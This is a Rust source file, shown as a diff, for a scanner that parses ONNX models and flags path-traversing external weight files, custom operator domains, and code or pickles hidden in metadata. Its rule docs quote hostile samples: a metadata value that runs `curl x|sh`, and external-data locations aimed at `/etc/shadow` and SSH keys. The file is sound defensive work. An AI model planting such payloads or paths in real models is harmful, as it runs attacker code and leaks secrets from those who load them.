@@ -1,0 +1,614 @@
+//! ONNX `ModelProto`, read field by field (field numbers from `onnx/onnx.proto`).
+//!
+//! Looks for what makes loading or running a model reach outside it: weights
+//! in external files (and paths that leave the model's folder), operators from
+//! domains no standard runtime implements (custom ops ship native code),
+//! nested graphs (walked to a depth limit) and metadata carrying code.
+
+use super::content::{location_problem, suspicious_text};
+use super::protobuf::{Reader, Span, WireError};
+use super::GraphLimits;
+use crate::finding::{abbreviate, Location};
+use crate::rule::Rule;
+use crate::scan::ScanCtx;
+use crate::severity::Severity;
+use crate::source::{ByteSource, ReadError};
+use serde_json::json;
+use std::collections::{BTreeMap, BTreeSet};
+
+/// The model is not valid protobuf, or not a valid `ModelProto`.
+pub static ONNX_MALFORMED: Rule = Rule {
+    id: "onnx-malformed",
+    severity: Severity::Medium,
+    summary: "The ONNX model is not a well-formed ModelProto, so part of it was not analysed.",
+    docs: r#"
+## Why it matters
+A model that does not parse cannot be vouched for: runtimes with lenient parsers may
+still load a prefix of it, and a parser differential between the scanner and the
+runtime is a classic way to hide content.
+
+## What to do
+Re-export the model with the official `onnx` package and check it with
+`onnx.checker.check_model`.
+"#,
+};
+
+/// An initializer's external data location escapes the model's folder.
+pub static ONNX_EXTERNAL_DATA_PATH: Rule = Rule {
+    id: "onnx-external-data-path",
+    severity: Severity::High,
+    summary: "A tensor's external_data location is absolute or climbs out of the model's folder.",
+    docs: r#"
+## Why it matters
+ONNX tensors may keep their bytes in a separate file named by the `location` entry of
+`external_data`, resolved relative to the model's folder. A location such as
+`../../etc/passwd` or `/home/user/.ssh/id_rsa` makes the runtime read an arbitrary
+file of the machine that loads the model and treat it as weights (CVE-2022-25882,
+CVE-2024-5187 for the matching write path in `onnx.hub`). Outputs computed from
+those weights can leak the file's content.
+
+## Example
+An initializer with `data_location: EXTERNAL` and
+`external_data { key: "location" value: "../../../../etc/shadow" }`.
+
+## What to do
+Do not load the model. Legitimate models name plain files next to the model
+(`model.onnx.data`, `weights.bin`).
+
+## References
+- ONNX external data: https://onnx.ai/onnx/repo-docs/ExternalData.html
+- CVE-2022-25882 (directory traversal in external data)
+"#,
+};
+
+/// A node uses an operator from a non-standard domain.
+pub static ONNX_CUSTOM_OP_DOMAIN: Rule = Rule {
+    id: "onnx-custom-op-domain",
+    severity: Severity::Medium,
+    summary: "The model uses operators outside the standard ONNX domains; running it needs custom operator code.",
+    docs: r#"
+## Why it matters
+Standard runtimes implement the `ai.onnx` (empty domain), `ai.onnx.ml` and training
+domains. Any other domain is a custom operator: the runtime needs a native library
+registered for it (`SessionOptions.register_custom_ops_library`), and that library
+runs with the full rights of the process. A model that asks for custom ops asks you
+to install and trust code from its author. `com.microsoft` contrib operators ship
+with ONNX Runtime itself and are reported at low severity.
+
+## Example
+A node with `domain: "com.example.ops"` and `op_type: "Decrypt"`.
+
+## What to do
+Find out which library implements the domain and where it comes from; only load
+the model with libraries you already trust.
+"#,
+};
+
+/// Metadata or doc strings hold code, pickles or terminal escapes.
+pub static ONNX_SUSPICIOUS_METADATA: Rule = Rule {
+    id: "onnx-suspicious-metadata",
+    severity: Severity::Medium,
+    summary: "Model metadata holds code, a serialized pickle or terminal escape sequences.",
+    docs: r#"
+## Why it matters
+`metadata_props` and `doc_string` are free text that tools display and that
+pipelines sometimes interpret (a preprocessing snippet, a pickled tokenizer). Code,
+pickles or shell commands there are a payload waiting for a careless consumer;
+ANSI escape sequences rewrite what a terminal shows.
+
+## Example
+`metadata_props { key: "preprocess" value: "__import__('os').system('curl x|sh')" }`
+
+## What to do
+Read the value. Never `eval`, `exec` or unpickle model metadata.
+"#,
+};
+
+/// Op domains every standard runtime implements.
+const STANDARD_DOMAINS: &[&str] = &[
+    "",
+    "ai.onnx",
+    "ai.onnx.ml",
+    "ai.onnx.training",
+    "ai.onnx.preview.training",
+];
+
+/// Contrib domains that ship with ONNX Runtime itself.
+const RUNTIME_CONTRIB_DOMAINS: &[&str] = &["com.microsoft", "com.microsoft.nchwc"];
+
+mod sniff;
+pub use sniff::sniff;
+
+/// Why the walk stopped early.
+enum Stop {
+    Malformed(u64, &'static str),
+    Limit,
+    Read(ReadError),
+}
+
+impl From<WireError> for Stop {
+    fn from(e: WireError) -> Self {
+        match e {
+            WireError::Malformed { offset, what } => Stop::Malformed(offset, what),
+            WireError::Read(e) => Stop::Read(e),
+        }
+    }
+}
+
+impl From<ReadError> for Stop {
+    fn from(e: ReadError) -> Self {
+        Stop::Read(e)
+    }
+}
+
+type Walk<T = ()> = Result<T, Stop>;
+
+/// One use of a custom operator, kept for the summary finding.
+struct CustomOp {
+    first_path: String,
+    count: u64,
+}
+
+struct Scanner<'r, 'c, 'o> {
+    r: Reader<'r>,
+    ctx: &'c mut ScanCtx<'o>,
+    limits: GraphLimits,
+    nodes: u64,
+    local_functions: BTreeSet<(String, String)>,
+    custom_ops: BTreeMap<(String, String), CustomOp>,
+    external_files: BTreeSet<String>,
+    external_tensors: u64,
+}
+
+/// Scan an ONNX model.
+pub fn scan(src: &mut dyn ByteSource, ctx: &mut ScanCtx<'_>) -> Result<(), ReadError> {
+    let limits = ctx.limits().graphs.clone();
+    let mut s = Scanner {
+        r: Reader::new(src),
+        ctx,
+        limits,
+        nodes: 0,
+        local_functions: BTreeSet::new(),
+        custom_ops: BTreeMap::new(),
+        external_files: BTreeSet::new(),
+        external_tensors: 0,
+    };
+    let result = s.model();
+    match result {
+        Ok(()) | Err(Stop::Limit) => {}
+        Err(Stop::Malformed(offset, what)) => {
+            let f = s.ctx.finding(
+                &ONNX_MALFORMED,
+                Location::ByteRange {
+                    start: offset,
+                    end: offset.saturating_add(1),
+                },
+                format!("the model is not valid protobuf: {what}; the rest was not analysed"),
+            );
+            s.ctx.push(f);
+        }
+        Err(Stop::Read(e)) => return Err(e),
+    }
+    s.report_custom_ops();
+    s.report_external();
+    Ok(())
+}
+
+impl Scanner<'_, '_, '_> {
+    fn next(&mut self, cursor: &mut u64, end: u64) -> Walk<Option<super::protobuf::Field>> {
+        if self.r.fields_read >= self.limits.max_proto_fields {
+            let max = self.limits.max_proto_fields;
+            self.ctx
+                .limit_hit("graphs.max_proto_fields", max, &format!("at byte {cursor}"));
+            return Err(Stop::Limit);
+        }
+        Ok(self.r.next_field(cursor, end)?)
+    }
+
+    fn text(&mut self, span: Span) -> Walk<String> {
+        Ok(self.r.text(span, u64::from(self.limits.max_string_bytes))?)
+    }
+
+    fn model(&mut self) -> Walk {
+        let whole = self.r.whole();
+        let mut cursor = whole.start;
+        let mut ir_version = None;
+        let mut producer = (String::new(), String::new());
+        let mut opsets = Vec::new();
+        let mut graphs = Vec::new();
+        let mut functions = Vec::new();
+        let mut training = Vec::new();
+        let mut metadata = Vec::new();
+        let mut doc = None;
+        while let Some(field) = self.next(&mut cursor, whole.end)? {
+            match (field.number, field.value) {
+                (1, super::protobuf::Value::Varint(v)) => ir_version = Some(v),
+                (2, _) => producer.0 = self.string_field(&field)?,
+                (3, _) => producer.1 = self.string_field(&field)?,
+                (6, _) => doc = field.span(),
+                (7, _) => graphs.push(self.span_field(&field)?),
+                (8, _) => opsets.push(self.opset(self.span_field(&field)?)?),
+                (14, _) => metadata.push(self.span_field(&field)?),
+                (20, _) => training.push(self.span_field(&field)?),
+                (25, _) => functions.push(self.span_field(&field)?),
+                _ => {}
+            }
+        }
+        if graphs.is_empty() && functions.is_empty() {
+            return Err(Stop::Malformed(0, "no graph in ModelProto"));
+        }
+        self.ctx.fact(
+            "onnx",
+            json!({
+                "ir_version": ir_version,
+                "producer_name": producer.0,
+                "producer_version": producer.1,
+                "opset_import": opsets
+                    .iter()
+                    .map(|(d, v)| json!({"domain": d, "version": v}))
+                    .collect::<Vec<_>>(),
+            }),
+        );
+        if let Some(span) = doc {
+            self.inspect_text("doc_string", span)?;
+        }
+        for span in metadata {
+            self.metadata_entry("metadata_props", span)?;
+        }
+        // Model-local functions first: calls to them are not custom ops.
+        let mut names = Vec::new();
+        for span in &functions {
+            let (domain, name) = self.function_id(*span)?;
+            names.push(format!("{domain}::{name}"));
+            self.local_functions.insert((domain, name));
+        }
+        if !names.is_empty() {
+            self.ctx.fact("onnx_functions", json!(names));
+        }
+        for (i, span) in functions.iter().enumerate() {
+            self.function(*span, &format!("functions[{i}]"))?;
+        }
+        for span in graphs {
+            self.graph(span, "graph", 0)?;
+        }
+        for (i, span) in training.into_iter().enumerate() {
+            let mut cursor = span.start;
+            while let Some(field) = self.next(&mut cursor, span.end)? {
+                if let (1 | 2, Some(g)) = (field.number, field.span()) {
+                    let part = if field.number == 1 {
+                        "initialization"
+                    } else {
+                        "algorithm"
+                    };
+                    self.graph(g, &format!("training_info[{i}]/{part}"), 1)?;
+                }
+            }
+        }
+        let nodes = self.nodes;
+        self.ctx.fact("onnx_nodes", json!(nodes));
+        Ok(())
+    }
+
+    fn span_field(&self, field: &super::protobuf::Field) -> Walk<Span> {
+        field.span().ok_or(Stop::Malformed(
+            field.offset,
+            "wrong wire type for a message field",
+        ))
+    }
+
+    fn string_field(&mut self, field: &super::protobuf::Field) -> Walk<String> {
+        let span = self.span_field(field)?;
+        self.text(span)
+    }
+
+    fn opset(&mut self, span: Span) -> Walk<(String, u64)> {
+        let mut cursor = span.start;
+        let (mut domain, mut version) = (String::new(), 0);
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            match field.number {
+                1 => domain = self.string_field(&field)?,
+                2 => version = field.varint().unwrap_or(0),
+                _ => {}
+            }
+        }
+        Ok((domain, version))
+    }
+
+    fn function_id(&mut self, span: Span) -> Walk<(String, String)> {
+        let mut cursor = span.start;
+        let (mut domain, mut name) = (String::new(), String::new());
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            match field.number {
+                1 => name = self.string_field(&field)?,
+                10 => domain = self.string_field(&field)?,
+                _ => {}
+            }
+        }
+        Ok((domain, name))
+    }
+
+    fn function(&mut self, span: Span, path: &str) -> Walk {
+        let mut cursor = span.start;
+        let mut index = 0u64;
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            match field.number {
+                7 => {
+                    let node = self.span_field(&field)?;
+                    self.node(node, &format!("{path}/node[{index}]"), 1)?;
+                    index = index.saturating_add(1);
+                }
+                14 => self.metadata_entry(path, self.span_field(&field)?)?,
+                _ => {}
+            }
+        }
+        Ok(())
+    }
+
+    fn graph(&mut self, span: Span, path: &str, depth: u32) -> Walk {
+        if depth > self.limits.max_graph_depth {
+            let max = self.limits.max_graph_depth;
+            self.ctx
+                .limit_hit("graphs.max_graph_depth", max, &format!("at {path}"));
+            return Err(Stop::Limit);
+        }
+        let mut cursor = span.start;
+        let mut index = 0u64;
+        let mut init = 0u64;
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            match field.number {
+                1 => {
+                    let node = self.span_field(&field)?;
+                    self.node(node, &format!("{path}/node[{index}]"), depth)?;
+                    index = index.saturating_add(1);
+                }
+                5 => {
+                    let t = self.span_field(&field)?;
+                    self.tensor(t, &format!("{path}/initializer[{init}]"))?;
+                    init = init.saturating_add(1);
+                }
+                15 => {
+                    let t = self.span_field(&field)?;
+                    self.sparse_tensor(t, &format!("{path}/sparse_initializer"))?;
+                }
+                16 => self.metadata_entry(path, self.span_field(&field)?)?,
+                _ => {}
+            }
+        }
+        Ok(())
+    }
+
+    fn node(&mut self, span: Span, path: &str, depth: u32) -> Walk {
+        self.nodes = self.nodes.saturating_add(1);
+        if self.nodes > self.limits.max_nodes {
+            let max = self.limits.max_nodes;
+            self.ctx
+                .limit_hit("graphs.max_nodes", max, &format!("at {path}"));
+            return Err(Stop::Limit);
+        }
+        let mut cursor = span.start;
+        let (mut op, mut domain, mut name) = (String::new(), String::new(), String::new());
+        let mut attributes = Vec::new();
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            match field.number {
+                3 => name = self.string_field(&field)?,
+                4 => op = self.string_field(&field)?,
+                5 => attributes.push(self.span_field(&field)?),
+                7 => domain = self.string_field(&field)?,
+                _ => {}
+            }
+        }
+        let path = if name.is_empty() {
+            format!("{path} (op {op})")
+        } else {
+            format!("{path} '{}' (op {op})", abbreviate(&name, 80))
+        };
+        if !STANDARD_DOMAINS.contains(&domain.as_str())
+            && !self.local_functions.contains(&(domain.clone(), op.clone()))
+        {
+            self.custom_ops
+                .entry((domain, op))
+                .and_modify(|c| c.count = c.count.saturating_add(1))
+                .or_insert(CustomOp {
+                    first_path: path.clone(),
+                    count: 1,
+                });
+        }
+        for attr in attributes {
+            self.attribute(attr, &path, depth)?;
+        }
+        Ok(())
+    }
+
+    fn attribute(&mut self, span: Span, node_path: &str, depth: u32) -> Walk {
+        let mut cursor = span.start;
+        let mut name = String::new();
+        let mut graphs = Vec::new();
+        let mut tensors = Vec::new();
+        let mut sparse = Vec::new();
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            match field.number {
+                1 => name = self.string_field(&field)?,
+                5 | 10 => tensors.push(self.span_field(&field)?),
+                6 | 11 => graphs.push(self.span_field(&field)?),
+                22 | 23 => sparse.push(self.span_field(&field)?),
+                _ => {}
+            }
+        }
+        let base = format!("{node_path}/{}", abbreviate(&name, 80));
+        for t in tensors {
+            self.tensor(t, &base)?;
+        }
+        for t in sparse {
+            self.sparse_tensor(t, &base)?;
+        }
+        let many = graphs.len() > 1;
+        for (i, g) in graphs.into_iter().enumerate() {
+            let path = if many {
+                format!("{base}[{i}]")
+            } else {
+                base.clone()
+            };
+            self.graph(g, &path, depth.saturating_add(1))?;
+        }
+        Ok(())
+    }
+
+    fn sparse_tensor(&mut self, span: Span, path: &str) -> Walk {
+        let mut cursor = span.start;
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            if let (1 | 2, Some(t)) = (field.number, field.span()) {
+                self.tensor(t, path)?;
+            }
+        }
+        Ok(())
+    }
+
+    fn tensor(&mut self, span: Span, path: &str) -> Walk {
+        let mut cursor = span.start;
+        let mut name = String::new();
+        let mut location = None;
+        let mut external = false;
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            match field.number {
+                8 => name = self.string_field(&field)?,
+                13 => {
+                    let entry = self.span_field(&field)?;
+                    let (key, value) = self.entry(entry)?;
+                    if key == "location" {
+                        location = Some(value);
+                    }
+                }
+                14 => external = field.varint() == Some(1),
+                _ => {}
+            }
+        }
+        let Some(location) = location else {
+            if external {
+                let f = self.ctx.finding(
+                    &ONNX_MALFORMED,
+                    Location::GraphNode { path: path.into() },
+                    format!(
+                        "tensor `{}` is stored externally but names no location",
+                        abbreviate(&name, 80)
+                    ),
+                );
+                self.ctx.push(f.with_severity(Severity::Low));
+            }
+            return Ok(());
+        };
+        self.external_tensors = self.external_tensors.saturating_add(1);
+        let path = if name.is_empty() {
+            path.to_owned()
+        } else {
+            format!("{path} '{}'", abbreviate(&name, 80))
+        };
+        if let Some(problem) = location_problem(&location) {
+            let f = self.ctx.finding(
+                &ONNX_EXTERNAL_DATA_PATH,
+                Location::GraphNode { path },
+                format!(
+                    "external data location {problem}: a runtime would read this file as weights"
+                ),
+            );
+            self.ctx
+                .push(f.with_evidence(abbreviate(&location, 200)).with_help(
+                    "do not load the model; external data must be a plain file next to the model",
+                ));
+        }
+        if self.external_files.len() < 1000 {
+            self.external_files.insert(abbreviate(&location, 200));
+        }
+        Ok(())
+    }
+
+    fn entry(&mut self, span: Span) -> Walk<(String, String)> {
+        let mut cursor = span.start;
+        let (mut key, mut value) = (String::new(), String::new());
+        while let Some(field) = self.next(&mut cursor, span.end)? {
+            match field.number {
+                1 => key = self.string_field(&field)?,
+                2 => value = self.string_field(&field)?,
+                _ => {}
+            }
+        }
+        Ok((key, value))
+    }
+
+    fn metadata_entry(&mut self, path: &str, span: Span) -> Walk {
+        let (key, value) = self.entry(span)?;
+        if let Some(why) = suspicious_text(&value) {
+            let f = self.ctx.finding(
+                &ONNX_SUSPICIOUS_METADATA,
+                Location::GraphNode {
+                    path: format!("{path}['{}']", abbreviate(&key, 80)),
+                },
+                format!("metadata value of `{}` {why}", abbreviate(&key, 80)),
+            );
+            self.ctx
+                .push(f.with_evidence(abbreviate(&value, 200)).with_help(
+                    "never evaluate or unpickle model metadata; find out who put this here",
+                ));
+        }
+        Ok(())
+    }
+
+    fn inspect_text(&mut self, path: &str, span: Span) -> Walk {
+        let value = self.text(span)?;
+        if let Some(why) = suspicious_text(&value) {
+            let f = self.ctx.finding(
+                &ONNX_SUSPICIOUS_METADATA,
+                Location::GraphNode { path: path.into() },
+                format!("{path} {why}"),
+            );
+            self.ctx.push(f.with_evidence(abbreviate(&value, 200)));
+        }
+        Ok(())
+    }
+
+    fn report_custom_ops(&mut self) {
+        let ops = std::mem::take(&mut self.custom_ops);
+        let mut domains: BTreeMap<String, Vec<String>> = BTreeMap::new();
+        for ((domain, op), use_) in ops {
+            domains.entry(domain.clone()).or_default().push(op.clone());
+            let contrib = RUNTIME_CONTRIB_DOMAINS.contains(&domain.as_str());
+            let times = if use_.count == 1 {
+                String::new()
+            } else {
+                format!(" ({} nodes)", use_.count)
+            };
+            let mut f = self.ctx.finding(
+                &ONNX_CUSTOM_OP_DOMAIN,
+                Location::GraphNode {
+                    path: use_.first_path,
+                },
+                format!(
+                    "operator `{}` of domain `{}`{times} is not a standard ONNX operator",
+                    abbreviate(&op, 80),
+                    abbreviate(&domain, 80)
+                ),
+            );
+            if contrib {
+                f = f
+                    .with_severity(Severity::Low)
+                    .with_help("an ONNX Runtime contrib operator: it runs only on ONNX Runtime, with code that ships with it");
+            } else {
+                f = f.with_help("running this model needs a custom operator library for this domain; trust it before you install it");
+            }
+            self.ctx.push(f);
+        }
+        if !domains.is_empty() {
+            self.ctx.fact("onnx_custom_ops", json!(domains));
+        }
+    }
+
+    fn report_external(&mut self) {
+        if self.external_tensors > 0 {
+            let files: Vec<&String> = self.external_files.iter().collect();
+            let tensors = self.external_tensors;
+            self.ctx.fact(
+                "onnx_external_data",
+                json!({"tensors": tensors, "files": files}),
+            );
+        }
+    }
+}
